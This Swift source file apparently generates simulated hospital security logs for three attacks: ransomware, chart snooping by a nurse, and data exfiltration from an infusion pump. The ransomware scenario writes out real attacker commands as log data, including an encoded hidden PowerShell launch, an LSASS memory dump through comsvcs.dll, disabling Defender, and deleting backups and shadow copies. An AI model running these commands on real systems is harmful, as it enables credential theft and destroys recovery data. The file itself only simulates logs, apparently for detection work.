/// From a letter to encrypted files, at the pace of a hurried attacker.
enum RansomwareAttack {
  private static let powershell = #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#
  private static let shell = #"C:\Windows\System32\cmd.exe"#

  static func steps(_ hospital: Hospital, _ random: inout SeededRandom) -> [AttackStep] {
    let people = hospital.people.filter { $0.role == .clerk }
    let clerk = people[Int(random.next() % UInt64(people.count))]
    let seats = hospital.workstations.filter { $0.ward == clerk.ward }
    let desk = seats[Int(random.next() % UInt64(seats.count))]
    let files = hospital.server("files01")
    let backup = hospital.server("backup01")
    let administrator = "adm.tanaka"
    let tool = #"C:\Users\Public\svc.exe"#

    func run(
      _ delay: Int64, _ image: String, _ line: String, parent: String, user: String,
      on computer: Hospital.Computer
    ) -> AttackStep {
      AttackStep(delay: delay) { time, random in
        WindowsLine.process(
          .init(image: image, commandLine: line, parent: parent, user: user), on: computer, at: time, &random)
      }
    }

    var steps = [
      run(
        0, powershell, #"powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="#,
        parent: #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#, user: clerk.account, on: desk
      ),
      AttackStep(delay: 1500) { time, _ in
        WindowsLine.connection(
          to: "203.0.113.66", port: 443, by: powershell, user: clerk.account, on: desk, at: time)
      },
      run(
        6000, shell, #"cmd.exe /c net group "Domain Admins" /domain"#, parent: powershell,
        user: clerk.account, on: desk),
      run(
        12_000, #"C:\Windows\System32\rundll32.exe"#,
        #"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full"#,
        parent: shell,
        user: clerk.account, on: desk),
      AttackStep(delay: 20_000) { time, random in
        WindowsLine.logon(
          administrator, succeeded: true, kind: 3, from: desk.address, on: files, at: time, &random)
      },
      AttackStep(delay: 21_000) { time, _ in
        WindowsLine.service("PSEXESVC", path: #"%SystemRoot%\PSEXESVC.exe"#, on: files, at: time)
      },
      run(
        26_000, powershell, "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
        parent: #"C:\Windows\PSEXESVC.exe"#, user: administrator, on: files),
      AttackStep(delay: 30_000) { time, _ in
        WindowsLine.service("PSEXESVC", path: #"%SystemRoot%\PSEXESVC.exe"#, on: backup, at: time)
      },
      run(
        33_000, #"C:\Windows\System32\wbadmin.exe"#, "wbadmin delete catalog -quiet",
        parent: #"C:\Windows\PSEXESVC.exe"#, user: administrator, on: backup),
      run(
        36_000, #"C:\Windows\System32\vssadmin.exe"#, "vssadmin delete shadows /all /quiet",
        parent: #"C:\Windows\PSEXESVC.exe"#, user: administrator, on: files),
      run(
        38_000, #"C:\Windows\System32\bcdedit.exe"#, "bcdedit /set {default} recoveryenabled no",
        parent: #"C:\Windows\PSEXESVC.exe"#, user: administrator, on: files),
    ]
    for number in 0..<60 {
      steps.append(
        AttackStep(delay: 42_000 + Int64(number) * 120) { time, random in
          WindowsLine.file(
            #"D:\Wards\Reports\report-\#(number).docx.lockbit"#, by: tool, user: administrator, on: files,
            at: time,
            &random)
        })
    }
    steps.append(
      AttackStep(delay: 50_000) { time, random in
        WindowsLine.file(
          #"D:\Wards\Reports\HOW_TO_RECOVER_FILES.txt"#, by: tool, user: administrator, on: files, at: time,
          &random)
      })
    return steps
  }
}

/// Forty charts in ten minutes, one number after the other.
enum SnoopingAttack {
  static func steps(_ hospital: Hospital, _ random: inout SeededRandom) -> [AttackStep] {
    let people = hospital.people.filter { $0.role == .nurse }
    let person = people[Int(random.next() % UInt64(people.count))]
    let seats = hospital.workstations.filter { $0.ward == person.ward }
    let desk = seats[Int(random.next() % UInt64(seats.count))]
    let first = Int(random.next() % 5000)
    return (0..<40).map { number in
      AttackStep(delay: Int64(number) * 15_000) { time, _ in
        OtherLines.recordOpened(by: person, at: desk, patient: first + number, time: time)
      }
    }
  }
}

/// A pump that looks for neighbours and then drips data to the internet.
enum DeviceAttack {
  static func steps(_ hospital: Hospital, _ random: inout SeededRandom) -> [AttackStep] {
    let pumps = hospital.devices.filter { $0.kind == .infusionPump }
    let pump = pumps[Int(random.next() % UInt64(pumps.count))]
    var steps = (1...120).map { number in
      AttackStep(delay: Int64(number) * 250) { time, random in
        OtherLines.flow(
          from: pump.address, to: "10.20.\(50 + number / 60).\(number % 60 + 1)",
          port: number % 2 == 0 ? 445 : 22,
          service: "-", bytes: 0, at: time, &random)
      }
    }
    for number in 0..<20 {
      steps.append(
        AttackStep(delay: 40_000 + Int64(number) * 10_000) { time, random in
          OtherLines.flow(
            from: pump.address, to: "203.0.113.77", port: 8443, service: "ssl", bytes: 60_000_000, at: time,
            &random)
        })
    }
    return steps
  }
}
